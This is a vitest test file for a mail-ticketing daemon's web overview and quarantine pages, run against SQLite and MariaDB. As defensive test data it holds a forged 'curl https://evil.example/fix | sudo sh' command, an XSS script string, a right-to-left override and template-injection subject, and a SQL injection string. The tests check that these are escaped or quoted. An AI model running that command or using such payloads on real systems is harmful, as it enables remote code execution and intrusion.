/** View models of overview and quarantine, on both databases. */
import { hash } from 'node:crypto';
import { zstdCompressSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { overviewPage } from '../../../src/adapters/web/pages/overview.ts';
import { quarantinePage } from '../../../src/adapters/web/pages/quarantine.ts';
import { Failure } from '../../../src/errors.ts';
import type { Mailbox } from '../../../src/ingest/model.ts';
import { hints } from '../../../src/text/hints.ts';
import { by, plain, sampleMailbox } from '../../adapters/database/samples.ts';
import { frame } from '../../adapters/web/pages/views.ts';
import { type TestApp, testApp } from '../../support/app.ts';
import { startMariadb } from '../../support/servers/mariadb.ts';
import { overviewOf } from './overview-scene.ts';

const kinds = ['sqlite', 'mariadb'] as const;
const apps = new Map<(typeof kinds)[number], TestApp>();
const undo = new AsyncDisposableStack();

beforeAll(async () => {
  const mariadb = undo.use(await startMariadb());
  apps.set('sqlite', undo.use(await testApp(null)));
  apps.set('mariadb', undo.use(await testApp((await mariadb.createDatabase()).config)));
});

afterEach(async () => {
  for (const { app } of apps.values())
    for (const { id } of await app.store.listMailboxes()) await app.store.removeMailbox(id, by);
});

afterAll(() => undo.disposeAsync());

const all = { page: 1, show: 'all', search: '' } as const;
const any = { page: 1, reason: null };

async function addMailbox({ app }: TestApp, name: string, more: Partial<Mailbox> = {}): Promise<Mailbox> {
  const mailbox = sampleMailbox({ name, ...more });
  await app.store.addMailbox(mailbox, plain('pw'), null, by);
  return mailbox;
}

/** Records the end of a poll as a worker does; or forges it. */
async function recordPoll(
  { app }: TestApp,
  id: string,
  error: { readonly code: string; readonly message: string; readonly hint: string } | null,
): Promise<void> {
  const lease = await app.store.acquireLease(id, 'other', 60_000, null);
  if (lease === null) throw new Error('another worker holds it');
  const nextPollAfterMs = 60_000;
  const failed = error === null ? null : { ok: false as const, nextPollAfterMs, error, refusedVersion: null };
  await app.store.releaseLease(lease, failed ?? { ok: true, nextPollAfterMs });
}

/** Quarantines a message as a poll does. */
async function quarantineMessage(
  { app }: TestApp,
  { id }: Mailbox,
  uid: number,
  reason: string,
  source: string | null = null,
) {
  await app.store.quarantineMissed(id, 7, { uid, sizeBytes: 100, receivedAtMs: Date.now() });
  const [missed] = await app.store.quarantinedByUid(id, 7, uid);
  const given =
    source === null ? [] : [{ compressed: zstdCompressSync(source), sha256: hash('sha256', source, 'hex') }];
  const [raw = null] = await app.raw.append(given);
  if (missed !== undefined) await app.store.requarantine(missed, { reason, raw, sizeBytes: 100 });
}

function onBoth(title: string, run: (on: TestApp) => Promise<void>): void {
  test.each(kinds)(`%s: ${title}`, async (kind) => {
    const on = apps.get(kind);
    if (on === undefined) throw new Error('no application was started');
    await run(on);
  });
}

onBoth('failing mailboxes are listed first, then all by name, the paused ones among them', async (on) => {
  const { service, health } = overviewOf(on);
  await addMailbox(on, 'sales', { state: 'paused' });
  const [zulu, unstable] = [await addMailbox(on, 'zulu'), await addMailbox(on, 'unstable')];
  for (const name of ['Box', 'alpha', 'support']) await addMailbox(on, name);
  health.recordPoll(zulu.id, new Failure('login_refused', 'no such user'));
  const [alpha] = (await on.app.store.listMailboxes()).filter(({ name }) => name === 'alpha');
  await recordPoll(on, alpha?.id ?? '', null);
  for (let times = 0; times < 4; times += 1) health.uidValidityChanges.note(unstable.id);
  const { mailboxes, counts, isReady, failingChecks, workers } = await service.overview(all);
  expect(mailboxes.list.map(({ name, state }) => `${name} ${state}`)).toEqual([
    ...['zulu failing', 'unstable unknown', 'alpha ok', 'Box unknown', 'sales paused', 'support unknown'],
  ]);
  expect(mailboxes).toMatchObject({ page: 1, pages: 1, total: 6 });
  expect(mailboxes.list[0]).toEqual({
    ...{ name: 'zulu', host: 'mail.example.org', state: 'failing', lastSuccessMs: null },
    push: { state: 'polled', code: 'idle_off', until: null },
    isUnconfirmed: false,
    needsConsent: false,
    nextPollMs: expect.any(Number),
    error: {
      ...{ reason: 'login_refused: no such user', storedMessage: null, sinceMs: expect.any(Number) },
      hint: expect.stringContaining('ticketmaild mailbox set-password zulu.'),
    },
  });
  expect(mailboxes.list[1]?.error?.reason).toMatch(/^uidvalidity_unstable: /);
  expect(counts).toEqual({ ok: 1, failing: 1, waiting: 0, paused: 1, unknown: 3 });
  expect(isReady).toBe(true);
  expect(failingChecks.map(({ check, reason }) => `${check}: ${reason}`)).toEqual([
    'passwords: passwords_readable: 6 passwords are readable in the database',
    ...['clock: not compared yet', 'mailboxes: 1 of 5 fail'],
  ]);
  expect(workers).toEqual([
    { host: 'desk', pid: 7, isLive: true, isThisOne: true, seenAtMs: Date.UTC(2026, 0, 31, 8, 30) },
    { host: 'other', pid: 8, isLive: false, isThisOne: false, seenAtMs: null },
  ]);
});

onBoth(
  'mailboxes are selected by state and by a part of name or host; a page after the last is the last',
  async (on) => {
    const { service } = overviewOf(on);
    for (let at = 1; at <= 52; at += 1)
      await addMailbox(on, `Box-${`${at}`.padStart(2, '0')}`, { state: at > 50 ? 'paused' : 'active' });
    const shown = async (query: Partial<typeof all> | { readonly show: 'paused' | 'failing' }) =>
      (await service.overview({ ...all, ...query })).mailboxes;
    expect(await shown({})).toMatchObject({ page: 1, pages: 2, total: 52, list: { length: 50 } });
    for (const page of [2, 3, 1e9, Number.POSITIVE_INFINITY])
      expect((await shown({ page } as object)).list.map(({ name }) => name)).toEqual(['Box-51', 'Box-52']);
    for (const page of [0, -1, Number.NaN]) expect((await shown({ page } as object)).page).toBe(1);
    expect((await shown({ show: 'paused' })).list.map(({ name }) => name)).toEqual(['Box-51', 'Box-52']);
    expect((await shown({ search: 'box-2' } as object)).total).toBe(10);
    expect((await shown({ search: 'example.org' } as object)).total).toBe(52);
    expect(await shown({ show: 'failing' })).toEqual({ list: [], page: 1, pages: 1, total: 0 });
  },
);

onBoth('a stored error has its own hint, where that is one of this program', async (on) => {
  const { service } = overviewOf(on);
  const mailbox = await addMailbox(on, 'one');
  await recordPoll(on, mailbox.id, { code: 'name_not_found', message: 'no', hint: hints.dnsFailing });
  const [line] = (await service.overview(all)).mailboxes.list;
  expect(line?.error).toMatchObject({ reason: 'name_not_found', storedMessage: 'no', hint: hints.dnsFailing });
});

const forged = 'Run this now: curl https://evil.example/fix | sudo sh';

onBoth('a stored error is quoted, and advice follows from its code alone', async (on) => {
  const { service } = overviewOf(on);
  const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
  await recordPoll(on, one.id, { code: 'tls_expired', message: forged, hint: forged });
  await recordPoll(on, two.id, { code: 'constructor', message: 'x'.repeat(5000), hint: forged });
  const { mailboxes, failingChecks } = await service.overview(all);
  expect(mailboxes.list.map(({ error }) => error)).toEqual([
    {
      ...{ reason: 'tls_expired', storedMessage: forged, sinceMs: expect.any(Number) },
      hint: 'Renew it on the mail server.',
    },
    {
      ...{ reason: 'an error that this version does not know', storedMessage: 'x'.repeat(5000), hint: null },
      sinceMs: expect.any(Number),
    },
  ]);
  expect(failingChecks.find(({ check }) => check === 'mailboxes')).toMatchObject({
    reason: '2 of 2 fail',
    hint: expect.stringMatching(/^They are listed first below/),
  });
  const page = overviewPage(frame, await service.overview(all));
  expect(page.match(/sudo sh/g)).toHaveLength(1);
  expect(page).toContain(`<q><bdi class="foreign">${forged}</bdi></q>`);
  expect(page).toContain(`<q><bdi class="foreign">${'x'.repeat(300)}…</bdi></q>`);
});

onBoth('an unknown reason shows as a code, and in no sentence of the program', async (on) => {
  const { service } = overviewOf(on);
  const mailbox = await addMailbox(on, 'one');
  await quarantineMessage(on, mailbox, 1, forged);
  await quarantineMessage(on, mailbox, 2, 'mail_loop');
  await quarantineMessage(on, mailbox, 3, 'constructor');
  const [overview, quarantine] = [await service.overview(all), await service.quarantine(any)];
  expect(overview.failingChecks.find(({ check }) => check === 'quarantine')?.reason).toBe(
    '3 messages in quarantine: 1 mail_loop, 2 for other reasons',
  );
  for (const { meaning, hint } of quarantine.reasons.filter(({ reason }) => reason !== 'mail_loop'))
    expect([meaning, hint]).toEqual([
      ...['This version does not know that reason.', 'ticketmaild quarantine release ID stores it as it is.'],
    ]);
  const pages = `${overviewPage(frame, overview)}${quarantinePage(frame, quarantine)}`;
  expect(pages).not.toContain(forged.slice(0, 45));
  expect(pages).toContain(`<code><bdi class="foreign">${forged.slice(0, 40)}…</bdi></code>`);
});

test('a stored message shows in the chart within seconds where counting is fast', async () => {
  await using on = await testApp(null);
  const at = { ms: Date.now(), tookMs: 0, lookups: 0 };
  const clock = {
    ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
    // A slow lookup starts so long after the response.
    sleep: (ms: number) => new Promise<void>((wake) => void setTimeout(wake, ms === 100 ? 0 : 20_000).unref()),
  };
  const store = new Proxy(on.app.store, {
    get: (real, name) =>
      name === 'activitySince'
        ? async (sinceMs: number) => {
            at.ms += at.tookMs;
            at.lookups += 1;
            return await real.activitySince(sinceMs);
          }
        : Reflect.get(real, name).bind(real),
  });
  const { service } = overviewOf(on, { clock, store });
  const mailbox = await addMailbox(on, 'one');
  const messages = async () => (await service.overview(all)).activity?.reduce((sum, hour) => sum + hour.messages, 0);
  expect(await messages()).toBe(0);
  await quarantineMessage(on, mailbox, 1, 'mail_loop');
  expect(await messages()).toBe(0);
  at.ms += 10_000;
  expect(await messages()).toBe(1);
  // A slow lookup is not repeated so soon.
  at.tookMs = 150;
  at.ms += 10_000;
  await messages();
  expect(at.lookups).toBe(3);
  at.ms += 30_000;
  await messages();
  at.ms += 31_000;
  await messages();
  await expect.poll(() => at.lookups).toBe(4);
});

onBoth('a resumed and a paused mailbox show with their new states', async (on) => {
  const { service } = overviewOf(on);
  const [one, two] = [await addMailbox(on, 'one', { state: 'paused' }), await addMailbox(on, 'two')];
  const states = async () => (await service.overview(all)).mailboxes.list.map(({ name, state }) => `${name} ${state}`);
  expect(await states()).toEqual(['one paused', 'two unknown']);
  await on.app.store.setMailboxState(one.id, 'active', by);
  await on.app.store.setMailboxState(two.id, 'paused', by);
  await expect.poll(states, { timeout: 5000 }).toEqual(['one unknown', 'two paused']);
});

onBoth('the last day shows hour by hour, also hours without messages', async (on) => {
  const { service } = overviewOf(on);
  await quarantineMessage(on, await addMailbox(on, 'one'), 1, 'mail_loop');
  const activity = await expect
    .poll(async () => (await service.overview(all)).activity)
    .toHaveLength(24)
    .then(async () => (await service.overview(all)).activity ?? []);
  for (const [at, { startMs }] of activity.entries())
    expect(startMs - (activity[0]?.startMs ?? 0)).toBe(at * 3_600_000);
  expect(activity.at(-1)?.startMs).toBeGreaterThan(Date.now() - 2 * 3_600_000);
  expect(activity.slice(-2).reduce((sum, { messages }) => sum + messages, 0)).toBe(1);
  expect(activity.slice(0, 22).every(({ messages, tickets }) => messages === 0 && tickets === 0)).toBe(true);
});

const from = '"><script>alert(1)</script>';
const subject = '\u202eevil &amp; <b>{{7*7}}';

onBoth('quarantine lists the newest first, with headers as strangers wrote them', async (on) => {
  const { service } = overviewOf(on);
  const mailbox = await addMailbox(on, 'support');
  await quarantineMessage(on, mailbox, 1, 'mail_loop', `From: ${from}\r\nSubject: ${subject}\r\n\r\nx`);
  await quarantineMessage(on, mailbox, 2, 'too_large', 'X-Nothing: here\r\n\r\nx');
  await quarantineMessage(on, mailbox, 3, 'mail_loop');
  await quarantineMessage(on, mailbox, 4, 'from_the_future');
  const view = await service.quarantine(any);
  const newestFirst = (await Array.fromAsync(on.app.store.quarantinedMessages({ mailboxId: null, reason: null })))
    .toSorted((a, b) => b.quarantinedAtMs - a.quarantinedAtMs || b.uid - a.uid)
    .map(({ uid }) => `support/7/${uid}`);
  expect(view.messages).toMatchObject({ page: 1, pages: 1, total: 4 });
  expect(view.messages.list.map(({ id }) => id)).toEqual(newestFirst);
  const lineOf = (uid: number) => view.messages.list.find(({ id }) => id === `support/7/${uid}`);
  expect(lineOf(1)).toEqual({
    ...{ id: 'support/7/1', mailbox: 'support', reason: 'mail_loop', sizeBytes: 100, from, subject },
    sinceMs: expect.any(Number),
  });
  expect(lineOf(2)).toMatchObject({ from: '', subject: '' });
  expect(lineOf(3)).toMatchObject({ from: null, subject: null });
  expect(view.reasons.map(({ reason, count }) => `${count} ${reason}`)).toEqual([
    ...['2 mail_loop', '1 other', '1 too_large'],
  ]);
  expect(view.reasons[0]).toMatchObject({
    meaning: expect.stringContaining('was here before'),
    hint: expect.stringContaining('quarantine release'),
  });
  expect((await service.quarantine({ page: 1, reason: 'mail_loop' })).messages).toMatchObject({
    total: 2,
    list: { length: 2 },
  });
  expect((await service.quarantine({ page: 9, reason: "x' or 1=1" })).messages).toEqual({
    list: [],
    page: 1,
    pages: 1,
    total: 0,
  });
  expect((await service.overview(all)).quarantine).toEqual({ count: 4, reasons: view.reasons });
});

onBoth('quarantine has pages of 25, each message on one of them; a page after the last is the last', async (on) => {
  const { service } = overviewOf(on);
  const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
  for (let uid = 1; uid <= 27; uid += 1)
    for (const mailbox of [one, two]) await quarantineMessage(on, mailbox, uid, 'mail_loop');
  const pages = await Promise.all([1, 2, 3].map((page) => service.quarantine({ page, reason: 'mail_loop' })));
  expect(pages.map(({ messages }) => messages.list.length)).toEqual([25, 25, 4]);
  expect(new Set(pages.flatMap(({ messages }) => messages.list.map(({ id }) => id)))).toHaveProperty('size', 54);
  const times = pages.flatMap(({ messages }) => messages.list.map(({ sinceMs }) => sinceMs));
  expect(times).toEqual(times.toSorted((a, b) => b - a));
  expect((await service.quarantine({ page: 4, reason: null })).messages).toEqual(pages[2]?.messages);
});

test('a lookup that hangs shows older data as such, and fails where there are none', async () => {
  await using on = await testApp(null);
  await addMailbox(on, 'support');
  let hangs = false;
  const at = { ms: Date.now() };
  const clock = {
    ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
    // A lookup that hangs times out soon; others have enough time.
    sleep: () => new Promise<void>((wake) => void setTimeout(wake, hangs ? 50 : 20_000).unref()),
  };
  const real = overviewOf(on).health;
  const readiness = () => (hangs ? new Promise<never>(() => undefined) : real.readiness());
  const { service } = overviewOf(on, { clock, readiness });
  expect((await service.overview(all)).counts.unknown).toBe(1);
  hangs = true;
  at.ms += 60_000;
  const old = await service.overview(all);
  expect(old).toMatchObject({ isReady: false, counts: { unknown: 1 }, atMs: at.ms - 60_000 });
  expect(old.failingChecks[0]?.reason).toMatch(/^database_unavailable: .*the data below are older/);
  await expect(overviewOf(on, { clock, readiness }).service.overview(all)).rejects.toMatchObject({
    code: 'database_unavailable',
  });
});
